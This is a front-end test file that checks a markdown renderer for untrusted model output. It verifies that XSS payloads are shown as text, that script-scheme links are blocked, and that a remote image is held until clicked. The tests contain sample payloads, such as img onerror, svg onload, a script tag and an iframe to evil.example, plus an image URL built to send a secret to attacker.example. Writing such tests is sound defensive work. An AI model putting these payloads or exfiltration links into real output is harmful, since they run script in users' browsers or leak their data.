import { fireEvent, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";
import { MarkdownContent } from "../src/markdown/markdown-content.tsx";

// Reference §1.6 B1/B2: model output is untrusted; nothing in it may run, and nothing may be fetched
// from an attacker's host without the person asking.

function renderMarkdown(text: string) {
  const { container } = render(<MarkdownContent text={text} />);
  return container;
}

/** Every element in the rendered output that could run script or make a request by itself. */
function activeElements(container: HTMLElement): Element[] {
  return [
    ...container.querySelectorAll(
      "script, img, svg, iframe, object, embed, video, audio, source, style, link",
    ),
  ];
}

function eventHandlerAttributes(container: HTMLElement): string[] {
  return [...container.querySelectorAll("*")].flatMap((element) =>
    element.getAttributeNames().filter((name) => name.toLowerCase().startsWith("on")),
  );
}

describe("markdown safety", () => {
  afterEach(() => {
    vi.unstubAllGlobals();
  });

  it("shows an <img onerror> payload as text", () => {
    const container = renderMarkdown('Look: <img src=x onerror="alert(1)"> and more');
    expect(activeElements(container)).toEqual([]);
    expect(eventHandlerAttributes(container)).toEqual([]);
    expect(container.textContent).toContain('<img src=x onerror="alert(1)">');
  });

  it("shows an <svg onload> block as text", () => {
    const container = renderMarkdown("<svg onload=alert(1)><circle r=5 /></svg>\n\nafter");
    expect(activeElements(container)).toEqual([]);
    expect(eventHandlerAttributes(container)).toEqual([]);
    expect(container.textContent).toContain("<svg onload=alert(1)>");
  });

  it("shows raw HTML blocks, scripts and iframes as text", () => {
    const container = renderMarkdown(
      '<div onclick="steal()">hi</div>\n\n<script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>',
    );
    expect(activeElements(container)).toEqual([]);
    expect(eventHandlerAttributes(container)).toEqual([]);
    expect(container.textContent).toContain("<script>alert(1)</script>");
    expect(container.textContent).toContain('<div onclick="steal()">');
  });

  it("decodes entities into text without creating elements", () => {
    const container = renderMarkdown("&lt;img src=x onerror=alert(1)&gt; &amp; &copy;");
    expect(activeElements(container)).toEqual([]);
    expect(container.textContent).toBe("<img src=x onerror=alert(1)> & ©");
  });

  it.each([
    ["javascript:alert(1)"],
    ["JaVaScRiPt:alert(1)"],
    ["&#106;avascript:alert(1)"],
    ["data:text/html,<script>alert(1)</script>"],
    ["vbscript:msgbox(1)"],
    ["/api/settings"],
  ])("does not make a link of %s", (href) => {
    const container = renderMarkdown(`[click me](${href})`);
    expect(container.querySelector("a")).toBeNull();
    expect(screen.getByTestId("blocked-link").textContent).toBe("click me");
  });

  it("makes http(s) links that open in a new tab without opener or referrer", () => {
    const container = renderMarkdown("See [the docs](https://example.com/docs) or https://example.org.");
    const links = [...container.querySelectorAll("a")];
    expect(links.map((link) => link.getAttribute("href"))).toEqual([
      "https://example.com/docs",
      "https://example.org/",
    ]);
    for (const link of links) {
      expect(link.getAttribute("target")).toBe("_blank");
      expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    }
  });

  it("does not load a remote image, which could carry secrets away, until it is clicked", () => {
    const container = renderMarkdown("![chart](https://attacker.example/collect?d=SECRET)");
    // Nothing that a browser would fetch: no image, and no element with a source URL of any kind.
    expect(container.querySelectorAll("img, [src], [srcset], [style*='url']")).toHaveLength(0);
    const placeholder = screen.getByTestId("remote-image");
    expect(placeholder.textContent).toContain("image from attacker.example — click to load");

    fireEvent.click(placeholder);
    const image = container.querySelector("img");
    expect(image?.getAttribute("src")).toBe("https://attacker.example/collect?d=SECRET");
    expect(image?.getAttribute("referrerpolicy")).toBe("no-referrer");
  });

  it("never loads an image whose URL is a script", () => {
    const container = renderMarkdown("![x](javascript:alert(1))");
    expect(container.querySelector("img")).toBeNull();
    expect(screen.queryByTestId("remote-image")).toBeNull();
    expect(screen.getByTestId("unsupported-image")).not.toBeNull();
  });

  it("renders GFM tables, task lists and strikethrough", () => {
    const container = renderMarkdown(
      "| Name | Size |\n|:--|--:|\n| a.ts | 10 |\n\n- [x] done\n- [ ] todo\n\n~~old~~ new",
    );
    expect([...container.querySelectorAll("th")].map((cell) => cell.textContent)).toEqual(["Name", "Size"]);
    expect(container.querySelector("td:last-child")?.getAttribute("style")).toContain("text-align: right");
    const boxes = [...container.querySelectorAll<HTMLInputElement>("input[type=checkbox]")];
    expect(boxes.map((box) => box.checked)).toEqual([true, false]);
    expect(boxes.every((box) => box.disabled)).toBe(true);
    expect(container.querySelector("del")?.textContent).toBe("old");
  });

  it("gives every code block a copy button that copies its code", async () => {
    const writeText = vi.fn().mockResolvedValue(undefined);
    vi.stubGlobal("navigator", { ...navigator, clipboard: { writeText } });
    renderMarkdown("```ts\nconst answer = 42;\n```");
    fireEvent.click(screen.getByTestId("code-copy"));
    expect(writeText).toHaveBeenCalledWith("const answer = 42;");
    expect(await screen.findByText("Copied")).not.toBeNull();
  });

  it("highlights known languages with spans, never with injected HTML", async () => {
    const container = renderMarkdown('```js\nconst html = "<img src=x onerror=alert(1)>";\n```');
    await screen.findByText("const");
    expect(container.querySelector(".hljs-keyword")?.textContent).toBe("const");
    expect(activeElements(container)).toEqual([]);
    expect(container.querySelector("code")?.textContent).toBe('const html = "<img src=x onerror=alert(1)>";');
  });
});
